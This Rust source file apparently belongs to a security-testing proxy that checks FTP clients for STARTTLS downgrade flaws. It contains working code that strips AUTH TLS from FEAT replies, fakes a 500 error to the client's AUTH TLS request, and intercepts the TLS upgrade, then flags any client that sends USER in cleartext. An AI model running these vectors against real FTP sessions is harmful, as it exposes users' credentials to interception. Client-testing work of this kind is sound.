// SPDX-License-Identifier: Apache-2.0

//! FTP attack vectors (spec.md section 4.3, "FTP"). The STARTTLS-class
//! command is `AUTH TLS` (RFC 4217); capability advertisement comes from
//! `FEAT`.

use std::sync::Arc;

use async_trait::async_trait;

use super::{contains_ci, split_lines, starts_with_ci, ArcVector, AttackVector, MangleCtx};
use crate::detect::Protocol;
use crate::error::{ProxyError, ProxyResult};

pub enum FtpVector {
    StripFromCapabilities,
    StripWithError,
    UntrustedIntercept,
}

/// Every FTP vector marks the session vulnerable the moment the client
/// sends `USER` in cleartext (spec.md section 4.3: "USER " sentinel).
fn mark_if_user(ctx: &MangleCtx<'_>, data: &[u8]) {
    if contains_ci(data, "user ") {
        ctx.mark_vulnerable();
    }
}

#[async_trait]
impl AttackVector for FtpVector {
    fn protocol(&self) -> Protocol {
        Protocol::Ftp
    }

    fn name(&self) -> &'static str {
        match self {
            FtpVector::StripFromCapabilities => "StripFromCapabilities",
            FtpVector::StripWithError => "StripWithError",
            FtpVector::UntrustedIntercept => "UntrustedIntercept",
        }
    }

    async fn mangle_client_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            FtpVector::StripFromCapabilities => {
                mark_if_user(ctx, data);
                Ok(Some(data.to_vec()))
            }
            FtpVector::StripWithError => {
                if starts_with_ci(data, "auth tls") {
                    ctx.send_to_client(b"500 AUTH TLS not understood\r\n").await?;
                    return Ok(None);
                }
                mark_if_user(ctx, data);
                Ok(Some(data.to_vec()))
            }
            FtpVector::UntrustedIntercept => {
                if starts_with_ci(data, "auth tls") {
                    ctx.send_to_client(b"234 OK Begin TLS negotation now\r\n").await?;
                    ctx.upgrade_inbound_as_server().await?;
                    ctx.send_to_upstream(data).await?;
                    let resp = ctx.recv_from_upstream(4096).await?;
                    if !starts_with_ci(&resp, "234") {
                        return Err(ProxyError::ProtocolViolation(
                            "upstream rejected forwarded AUTH TLS",
                        ));
                    }
                    ctx.upgrade_outbound_as_client().await?;
                    return Ok(None);
                }
                mark_if_user(ctx, data);
                Ok(Some(data.to_vec()))
            }
        }
    }

    async fn mangle_server_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            FtpVector::StripFromCapabilities => {
                if starts_with_ci(ctx.outbound_last_sent(), "feat") && contains_ci(data, "auth tls") {
                    let kept: Vec<&[u8]> = split_lines(data)
                        .into_iter()
                        .filter(|l| !contains_ci(l, "auth tls"))
                        .collect();
                    return Ok(Some(kept.concat()));
                }
                Ok(Some(data.to_vec()))
            }
            _ => Ok(Some(data.to_vec())),
        }
    }
}

pub fn all() -> Vec<ArcVector> {
    vec![
        Arc::new(FtpVector::StripFromCapabilities),
        Arc::new(FtpVector::StripWithError),
        Arc::new(FtpVector::UntrustedIntercept),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn feat_response_drops_auth_tls_line() {
        let data = b"211-Features:\r\n AUTH TLS\r\n PBSZ\r\n211 End\r\n";
        let kept: Vec<&[u8]> = split_lines(data)
            .into_iter()
            .filter(|l| !contains_ci(l, "auth tls"))
            .collect();
        let out = kept.concat();
        assert!(!contains_ci(&out, "auth tls"));
        assert!(contains_ci(&out, "pbsz"));
    }
}
